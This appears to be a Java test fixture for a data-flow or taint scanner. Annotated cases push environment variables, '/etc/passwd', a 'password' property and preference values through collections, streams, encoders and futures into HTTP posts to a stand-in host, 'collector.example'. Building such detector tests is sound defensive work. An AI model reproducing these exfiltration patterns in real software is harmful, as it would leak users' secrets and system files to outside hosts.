// java.util: collections, streams with their functions, optional values, scanners, properties, encoders, executors, timers.
package app;

import java.io.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.AtomicReference;
import java.util.prefs.Preferences;
import java.util.regex.*;
import java.util.stream.*;
import org.springframework.web.client.RestTemplate;

class Util {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void listCopied(List<String> names) {
        names.add(System.getenv("T")); //~ source(ENVIRONMENT) f1
        rest.postForObject(U, new ArrayList<>(names).get(0), String.class); //~ sink(egress.http) f1, finding(traced) f1
    }

    void listOf() {
        List<String> names = List.of(System.getenv("T")); //~ source(ENVIRONMENT) f2
        rest.postForObject(U, names.get(0), String.class); //~ sink(egress.http) f2, finding(traced) f2
    }

    void mapCopied(Map<String, String> map) {
        map.put("t", System.getenv("T")); //~ source(ENVIRONMENT) f3
        rest.postForObject(U, new HashMap<>(map).get("t"), String.class); //~ sink(egress.http) f3, finding(traced) f3
        rest.postForObject(U, map.get("u"), String.class); //~ ok
    }

    void mapOf() {
        rest.postForObject(U, Map.of("t", System.getenv("T")).get("t"), String.class); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
        rest.postForObject(U, Map.of("t", "x").get("t"), String.class); //~ ok
    }

    void listSet() {
        List<String> names = new ArrayList<>();
        names.set(0, System.getenv("T")); //~ source(ENVIRONMENT) f5
        rest.postForObject(U, names.subList(0, 1), String.class); //~ sink(egress.http) f5, finding(traced) f5
    }

    void listAll() {
        List<String> names = new ArrayList<>();
        names.addAll(Arrays.asList(System.getenv("T"))); //~ source(ENVIRONMENT) f6
        rest.postForObject(U, names.toString().trim(), String.class); //~ sink(egress.http) f6, finding(traced) f6
    }

    void listIterated() {
        List<String> names = new ArrayList<>();
        names.add(System.getenv("T")); //~ source(ENVIRONMENT) f7
        Iterator<String> each = names.iterator();
        rest.postForObject(U, each.next(), String.class); //~ sink(egress.http) f7, finding(traced) f7
        rest.postForObject(U, each.hasNext(), String.class); //~ ok
        rest.postForObject(U, names.indexOf(System.getenv("T")), String.class); //~ ok
    }

    void listEach() {
        List<String> names = new ArrayList<>();
        names.add(System.getenv("T")); //~ source(ENVIRONMENT) f8
        names.forEach(name -> rest.postForObject(U, name, String.class)); //~ sink(egress.http) f8, finding(traced) f8
    }

    void listReplaced() {
        List<String> names = new ArrayList<>();
        names.add("x");
        names.replaceAll(name -> System.getenv("T")); //~ source(ENVIRONMENT) f9
        rest.postForObject(U, names.get(0), String.class); //~ sink(egress.http) f9, finding(traced) f9
    }

    void listConstants() {
        List<String> names = new ArrayList<>(List.of("x")); //~ ok
        names.add("x"); //~ ok
        names.set(0, "x"); //~ ok
        names.addAll(Arrays.asList("x")); //~ ok
        names.replaceAll(name -> "x"); //~ ok
        rest.postForObject(U, names.get(0), String.class); //~ ok
        rest.postForObject(U, names.toString().trim(), String.class); //~ ok
        rest.postForObject(U, names.subList(0, 1), String.class); //~ ok
        rest.postForObject(U, names.iterator().next(), String.class); //~ ok
        names.forEach(name -> rest.postForObject(U, name, String.class)); //~ ok
        names.stream().forEach(name -> rest.postForObject(U, name, String.class)); //~ ok
    }

    void mapKeyed(String key) {
        Map<String, String> map = new HashMap<>();
        map.put(key + "x", System.getenv("T")); //~ source(ENVIRONMENT) f10
        rest.postForObject(U, map.get(key + "y"), String.class); //~ sink(egress.http) f10, finding(traced) f10
    }

    void mapAll(Map<String, String> map) {
        map.put("t", System.getenv("T")); //~ source(ENVIRONMENT) f11
        Map<String, String> other = new HashMap<>();
        other.putAll(map);
        rest.postForObject(U, other.get("t"), String.class); //~ sink(egress.http) f11, finding(traced) f11
    }

    void mapEntries() {
        Map<String, String> map = new HashMap<>();
        map.put("t", System.getenv("T")); //~ source(ENVIRONMENT) f12
        for (Map.Entry<String, String> entry : map.entrySet()) {
            rest.postForObject(U, entry.getValue(), String.class); //~ sink(egress.http) f12, finding(traced) f12
        }
        rest.postForObject(U, map.containsKey("t"), String.class); //~ ok
    }

    void mapText() {
        Map<String, String> map = new HashMap<>();
        map.put("t", System.getenv("T")); //~ source(ENVIRONMENT) f13
        rest.postForObject(U, map.toString().trim(), String.class); //~ sink(egress.http) f13, finding(traced) f13
    }

    void mapEach() {
        Map<String, String> map = new HashMap<>();
        map.put("t", System.getenv("T")); //~ source(ENVIRONMENT) f14
        map.forEach((key, value) -> rest.postForObject(U, value, String.class)); //~ sink(egress.http) f14, finding(traced) f14
    }

    void mapComputed() {
        Map<String, String> map = new HashMap<>();
        rest.postForObject(U, map.computeIfAbsent("t", key -> System.getenv(key)), String.class); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
    }

    void mapConstants(String key) {
        Map<String, String> map = new HashMap<>(); //~ ok
        map.put(key + "x", "x"); //~ ok
        map.putAll(Map.of("t", "x")); //~ ok
        rest.postForObject(U, map.get(key + "y"), String.class); //~ ok
        for (Map.Entry<String, String> entry : map.entrySet()) { //~ ok
            rest.postForObject(U, entry.getValue(), String.class); //~ ok
        }
        rest.postForObject(U, map.toString().trim(), String.class); //~ ok
        map.forEach((name, value) -> rest.postForObject(U, value, String.class)); //~ ok
        rest.postForObject(U, map.computeIfAbsent("t", name -> "x"), String.class); //~ ok
    }

    void streamMapped() {
        Stream.of(System.getenv("T")).map(name -> name.trim()).forEach(name -> { //~ source(ENVIRONMENT) f16
            rest.postForObject(U, name, String.class); //~ sink(egress.http) f16, finding(traced) f16
        });
    }

    void streamCollected(List<String> names) {
        names.add(System.getenv("T")); //~ source(ENVIRONMENT) f17
        List<String> found = names.stream().filter(name -> name.isEmpty()).sorted().collect(Collectors.toList());
        rest.postForObject(U, found.get(0), String.class); //~ sink(egress.http) f17, finding(traced) f17
    }

    void streamFiltered(List<String> names) {
        names.add(System.getenv("T")); //~ source(ENVIRONMENT) f18
        names.stream().peek(name -> {
            rest.postForObject(U, name, String.class); //~ sink(egress.http) f18, finding(traced) f18
        }).count();
    }

    void streamFound(List<String> names) {
        names.add(System.getenv("T")); //~ source(ENVIRONMENT) f19
        rest.postForObject(U, names.stream().findFirst().get(), String.class); //~ sink(egress.http) f19, finding(traced) f19
        rest.postForObject(U, names.stream().anyMatch(name -> name.isEmpty()), String.class); //~ ok
    }

    void streamOfArray() {
        byte[] data = Arrays.copyOf(System.getenv("T").getBytes(), 10); //~ source(ENVIRONMENT) f20
        rest.postForObject(U, data, String.class); //~ sink(egress.http) f20, finding(traced) f20
        rest.postForObject(U, Arrays.copyOf(new byte[1], 10), String.class); //~ ok
    }

    void streamConstants(List<String> names) {
        Stream.of("x").map(name -> name.trim()).forEach(name -> rest.postForObject(U, name, String.class)); //~ ok
        rest.postForObject(U, names.stream().filter(name -> name.isEmpty()).sorted().collect(Collectors.toList()).get(0), String.class); //~ ok
        rest.postForObject(U, names.stream().findFirst().get(), String.class); //~ ok
    }

    void optional() {
        Optional<String> value = Optional.of(System.getenv("T")); //~ source(ENVIRONMENT) f21
        rest.postForObject(U, value.orElse("x"), String.class); //~ sink(egress.http) f21, finding(traced) f21
        rest.postForObject(U, value.isPresent(), String.class); //~ ok
    }

    void optionalMapped() {
        Optional.of(System.getenv("T")).map(text -> text.trim()).ifPresent(text -> { //~ source(ENVIRONMENT) f22
            rest.postForObject(U, text, String.class); //~ sink(egress.http) f22, finding(traced) f22
        });
    }

    void optionalConstants() {
        rest.postForObject(U, Optional.of("x").map(text -> text.trim()).orElse("y"), String.class); //~ ok
        Optional.of("x").ifPresent(text -> rest.postForObject(U, text, String.class)); //~ ok
    }

    void scanned() {
        Scanner in = new Scanner(System.getenv("T")).useDelimiter(","); //~ source(ENVIRONMENT) f23
        rest.postForObject(U, in.nextLine(), String.class); //~ sink(egress.http) f23, finding(traced) f23
    }

    void scannedFile() {
        Scanner in = new Scanner(new File("/etc/passwd")); //~ source(FILE) f24, capability(FILES)
        rest.postForObject(U, in.next().trim(), String.class); //~ sink(egress.http) f24, finding(traced) f24
    }

    void scannedConstants() {
        rest.postForObject(U, new Scanner("x").useDelimiter(",").nextLine(), String.class); //~ ok
    }

    void properties() {
        Properties properties = new Properties();
        properties.load(new FileInputStream("/etc/app.conf")); //~ source(FILE) f25
        rest.postForObject(U, properties.getProperty("password"), String.class); //~ sink(egress.http) f25, finding(assumed) f25
    }

    void propertiesStored() {
        Properties properties = new Properties();
        properties.setProperty("t", System.getenv("T")); //~ source(ENVIRONMENT) f26
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        properties.store(out, "");
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f26, finding(traced) f26
    }

    void propertiesConstants(InputStream in) {
        Properties properties = new Properties();
        properties.load(in); //~ ok
        properties.setProperty("t", "x"); //~ ok
        properties.store(new ByteArrayOutputStream(), ""); //~ ok
        rest.postForObject(U, properties.getProperty("t"), String.class); //~ ok
    }

    void encoded() {
        String text = Base64.getEncoder().withoutPadding().encodeToString(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f27
        rest.postForObject(U, text, String.class); //~ sink(egress.http) f27, finding(traced) f27
        rest.postForObject(U, Base64.getEncoder().withoutPadding().encodeToString(new byte[1]), String.class); //~ ok
    }

    void encodedStream() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Base64.getEncoder().wrap(out).write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f28
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f28, finding(traced) f28
        Base64.getEncoder().wrap(new ByteArrayOutputStream()).write(1); //~ ok
    }

    void hex() {
        rest.postForObject(U, HexFormat.of().formatHex(System.getenv("T").getBytes()), String.class); //~ source(ENVIRONMENT) f29, sink(egress.http) f29, finding(traced) f29
        rest.postForObject(U, HexFormat.of().formatHex(new byte[1]), String.class); //~ ok
    }

    void required() {
        rest.postForObject(U, Objects.requireNonNull(System.getenv("T")), String.class); //~ source(ENVIRONMENT) f30, sink(egress.http) f30, finding(traced) f30
        rest.postForObject(U, Objects.requireNonNull("x"), String.class); //~ ok
        rest.postForObject(U, UUID.nameUUIDFromBytes(System.getenv("T").getBytes()), String.class); //~ ok
    }

    void matched() {
        Matcher matcher = Pattern.compile("x").matcher(System.getenv("T")); //~ source(ENVIRONMENT) f31
        rest.postForObject(U, matcher.group(1), String.class); //~ sink(egress.http) f31, finding(traced) f31
        rest.postForObject(U, matcher.find(), String.class); //~ ok
        rest.postForObject(U, matcher.start(), String.class); //~ ok
        rest.postForObject(U, Pattern.compile("x").matcher("xy").group(1), String.class); //~ ok
    }

    void submitted() {
        Future<String> future = Executors.newFixedThreadPool(1).submit(() -> System.getenv("T")); //~ source(ENVIRONMENT) f32
        rest.postForObject(U, future.get(), String.class); //~ sink(egress.http) f32, finding(traced) f32
    }

    void supplied() {
        CompletableFuture.supplyAsync(() -> System.getenv("T")).thenApply(text -> text.trim()).thenAccept(text -> { //~ source(ENVIRONMENT) f33
            rest.postForObject(U, text, String.class); //~ sink(egress.http) f33, finding(traced) f33
        });
    }

    void completed() {
        rest.postForObject(U, CompletableFuture.completedFuture(System.getenv("T")).join(), String.class); //~ source(ENVIRONMENT) f34, sink(egress.http) f34, finding(traced) f34
    }

    void completedLater(CompletableFuture<String> future) {
        future.complete(System.getenv("T")); //~ source(ENVIRONMENT) f35
        rest.postForObject(U, future.join(), String.class); //~ sink(egress.http) f35, finding(traced) f35
    }

    void futureConstants(CompletableFuture<String> future) {
        ExecutorService pool = Executors.newFixedThreadPool(1); //~ ok
        rest.postForObject(U, pool.submit(() -> "x").get(), String.class); //~ ok
        CompletableFuture.supplyAsync(() -> "x").thenApply(text -> text.trim()).thenAccept(text -> rest.postForObject(U, text, String.class)); //~ ok
        rest.postForObject(U, CompletableFuture.completedFuture("x").join(), String.class); //~ ok
        future.complete("x"); //~ ok
    }

    void referenced() {
        AtomicReference<String> cell = new AtomicReference<>();
        cell.set(System.getenv("T")); //~ source(ENVIRONMENT) f36
        rest.postForObject(U, cell.get(), String.class); //~ sink(egress.http) f36, finding(traced) f36
    }

    void referencedConstant() {
        AtomicReference<String> cell = new AtomicReference<>();
        cell.set("x"); //~ ok
        rest.postForObject(U, cell.get(), String.class); //~ ok
    }

    void preferences(Preferences node) {
        rest.postForObject(U, node.get("license", ""), String.class); //~ source(REGISTRY) f37, sink(egress.http) f37, finding(traced) f37, capability(REGISTRY)
        rest.postForObject(U, node.get("license", "") == null, String.class); //~ ok
    }
}

class Tick extends TimerTask {
    String text = System.getenv("T"); //~ source(ENVIRONMENT) f38

    void begin() {
        new Timer().schedule(this, 1000);
        new Timer().schedule(null, 1000); //~ ok
    }

    public void run() {
        Util.rest.postForObject(Util.U, text, String.class); //~ sink(egress.http) f38, finding(traced) f38
    }
}
